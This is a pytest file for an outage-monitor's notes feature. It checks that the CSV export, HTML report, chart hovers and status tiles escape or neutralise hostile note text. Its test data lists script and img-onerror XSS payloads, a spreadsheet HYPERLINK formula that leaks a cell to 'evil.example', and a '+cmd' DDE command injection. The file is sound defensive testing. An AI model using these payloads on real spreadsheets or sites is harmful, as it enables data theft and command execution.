"""Notes in the CSV export and the meeting report: present, and hostile text inert."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from support_samples import CONFIG, combine, platform, rounds, write_history

from monitors.__main__ import main
from monitors.analysis import playbook
from monitors.analysis.incident_notes import notes_for
from monitors.analysis.windows import analyse_history
from monitors.config import load_settings
from monitors.history import notes, store_for
from monitors.output import board as live
from monitors.output import charts, export, notes_html, report, tables, tiles
from monitors.timeutil import utcnow

INSTA = "." * 60 + "X" * 10 + "." * 80
FACEBOOK = "." * 62 + "XXXX" + "." * 84
HOSTILE = [
    "<script>alert('note')</script>",
    '<img src=x onerror="alert(2)">',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "bell\x07 esc\x1b[2J nul\x00 and a lone \ud800 surrogate",
    "long " + "y" * 4000,
]


@pytest.fixture
def noted(data_dir, tmp_path):
    """History with two outages, now over; every hostile text written as a note on the first."""
    start = (utcnow() - timedelta(hours=3)).replace(second=0, microsecond=0)
    write_history(str(data_dir), combine(rounds(INSTA, start=start),
                                         rounds(FACEBOOK, start=start, platform="facebook")))
    config = tmp_path / "pulse.toml"
    config.write_text(CONFIG, encoding="utf-8")
    settings = load_settings(str(config), str(data_dir))
    outages = analyse_history(settings, "1d").outages
    insta = next(o for o in outages if o.platform == "insta")
    store = store_for(settings)
    for i, text in enumerate(HOSTILE):
        notes.write(store, notes.make("note", incident=insta.id, platform="insta",
                                      start=insta.start, end=insta.end, by=f"<b>user{i}</b>",
                                      text=text, kind="learned" if i == 2 else "did"))
    notes.write(store, notes.make("review", incident=insta.id, platform="insta",
                                  start=insta.start, end=insta.end, by="Ana",
                                  worked="<u>email</u>", didnt="SMS", lesson="=1+1"))
    return {"settings": settings, "insta": insta, "outages": outages,
            "args": ["--config", str(config), "--data", str(data_dir)]}


def test_the_incidents_csv_has_the_id_and_the_notes_and_no_cell_is_a_formula(noted, capsys):
    assert main(["export", "--what", "incidents", "--since", "1d", *noted["args"]]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    by_id = {r["id"]: r for r in rows}
    cell = by_id[noted["insta"].id]["notes"]
    assert "<script>alert('note')</script>" in cell and "HYPERLINK" in cell
    assert cell.count(" | ") == len(HOSTILE) - 1  # one entry per note
    assert "\x1b" not in cell and "\x00" not in cell and "\x07" not in cell
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    facebook = next(o.id for o in noted["outages"] if o.platform == "facebook")
    assert by_id[facebook]["notes"] == ""


def test_a_notes_cell_that_would_start_a_formula_is_neutralised(noted):
    rows = export.incident_rows([noted["insta"]], noted["settings"].platforms, "UTC",
                                notes={noted["insta"].id: "=HYPERLINK(\"x\")"})
    assert rows["notes"].iloc[0] == "'=HYPERLINK(\"x\")"


def _visible_tags(html: str) -> set[str]:
    return {m.lower() for m in re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", html)}


def test_the_report_has_what_we_did_and_learned_with_the_notes_escaped(noted):
    html = report.build_report(noted["settings"], "1d", with_images=False)
    assert "What we did / what we learned" in html
    section = html[html.index('id="follow-up"'):html.index("<footer")]
    assert "&lt;script&gt;alert(&#x27;note&#x27;)&lt;/script&gt;" in section
    assert "&lt;img src=x onerror=&quot;alert(2)&quot;&gt;" in section
    assert "<script" not in html and "<img src=x" not in html and "<u>" not in html
    assert _visible_tags(section) <= {"section", "h2", "h3", "table", "thead", "tbody", "tr",
                                      "th", "td", "div", "span", "ul", "li", "b", "br", "p"}
    assert "Playbooks not reviewed since their platform's last outage" in section
    assert "Facebook" in section.split("not reviewed since")[1]  # no review on Facebook's
    assert "\ud800" not in html and "\x1b" not in html


def test_a_review_updates_the_playbook_date_and_lessons():
    insta = platform("insta")
    review = notes.make("review", incident="insta-20240506t120000z", platform="insta",
                        start=datetime(2024, 5, 6, 12, tzinfo=UTC), end=None, by="Ana",
                        at=datetime(2024, 5, 7, 9, tzinfo=UTC), worked="Email",
                        didnt="The SMS gateway", lesson="Keep the SMS credits topped up")
    view = playbook.playbook_for(insta, [insta], {"insta": "down"}, today=date(2024, 5, 8),
                                 reviews=[review])
    assert view.reviewed == date(2024, 5, 7)
    assert [x.lesson for x in view.lessons] == ["Keep the SMS credits topped up"]
    assert "Lesson from 2024-05-07: Keep the SMS credits topped up" in playbook.playbook_lines(
        view)
    ended = {"insta": datetime(2024, 5, 6, 13, tzinfo=UTC)}
    assert playbook.unreviewed([insta], ended, {"insta": [review]}) == []
    later = {"insta": datetime(2024, 5, 9, 13, tzinfo=UTC)}
    assert [p.id for p, _, _ in playbook.unreviewed([insta], later, {"insta": [review]})] == [
        "insta"]
    html = notes_html.lessons_html(view.lessons, view.reviewed)
    assert "Last reviewed 2024-05-07" in html and "Keep the SMS credits" in html


def test_the_timeline_hover_shows_the_notes_escaped_and_short(noted):
    settings, outages = noted["settings"], noted["outages"]
    frame = tables.incident_frame(outages, settings.platforms, now=utcnow())
    fig = charts.outage_timeline(frame, tz="UTC", platforms=["Instagram", "Facebook"])
    before = [list(t.customdata) for t in fig.data]
    fig = notes_html.add_note_hover(fig, frame, notes_for(settings, outages), "UTC")
    hovers = [text for t in fig.data for text in t.customdata]
    insta = next(h for h in hovers if h.startswith("<b>Instagram"))
    assert "• &lt;b&gt;user" in insta and "… and 3 more on the History page" in insta
    assert "<script" not in insta and "<img" not in insta and "yyyy…" in insta
    facebook = next(h for h in hovers if h.startswith("<b>Facebook"))
    assert "•" not in facebook and [len(c) for c in before] == [len(t.customdata)
                                                                 for t in fig.data]


def test_the_tile_says_who_is_on_it_escaped(noted):
    settings = noted["settings"]
    now = utcnow()
    start = now - timedelta(minutes=10)
    samples = rounds("." * 2 + "X" * 8, start=start)
    outages = analyse_history(settings, "1d", now=now).outages
    ongoing = live.status_board(samples, settings.platforms[:1], now=now, outages=[
        o for o in outages if o.platform == "insta"][:1], acks={})
    assert ongoing["ack_by"].iloc[0] == ""
    fake = type(outages[0])(platform="insta", provider="Meta", start=start, end=None,
                            detected_at=start, severity="down", cause="x")
    ack = notes.make("ack", incident=fake.id, platform="insta", start=start, end=None,
                     by="<img src=x onerror=alert(1)>Ana", at=now)
    board = live.status_board(samples, settings.platforms[:1], now=now, outages=[fake],
                              acks={fake.id: ack})
    html = tiles.board(board, tz="UTC", now=now)
    assert "&lt;img src=x onerror=alert(1)&gt;Ana is on it <span>since" in html
    assert "<img" not in html
